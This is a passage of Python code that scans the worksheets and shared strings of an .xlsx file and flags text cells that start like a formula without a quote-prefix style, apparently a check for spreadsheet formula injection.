        if "xl/styles.xml" in names:
            styles = etree.fromstring(zf.read("xl/styles.xml"))
            xfs = next((el for el in styles if etree.QName(el).localname == "cellXfs"), None)
            for k, xf in enumerate(xfs if xfs is not None else []):
                if xf.get("quotePrefix") in ("1", "true"):
                    quoted.add(k)
        strings: list[str] = []
        if "xl/sharedStrings.xml" in names:
            sst = etree.fromstring(zf.read("xl/sharedStrings.xml"))
            for si in sst:
                strings.append("".join(t.text or "" for t in si.iter() if etree.QName(t).localname == "t"))
        for name in names:
            if not (name.startswith("xl/worksheets/") and name.endswith(".xml")):
                continue
            root = etree.fromstring(zf.read(name))
            for c in root.iter():
                if not isinstance(c.tag, str) or etree.QName(c).localname != "c":
                    continue
                kind = c.get("t")
                if kind == "s":
                    v = next((x for x in c if etree.QName(x).localname == "v"), None)
                    text = strings[int(v.text)] if v is not None and v.text and v.text.isdigit() else ""
                elif kind == "inlineStr":
                    text = "".join(t.text or "" for t in c.iter() if etree.QName(t).localname == "t")
                else:
                    continue
                if text.lstrip(" \t\u3000").startswith(FORMULA_LIKE) and int(c.get("s") or 0) not in quoted:
                    found.append(f"{name}!{c.get('r')}: {text[:60]!r}")
    return found
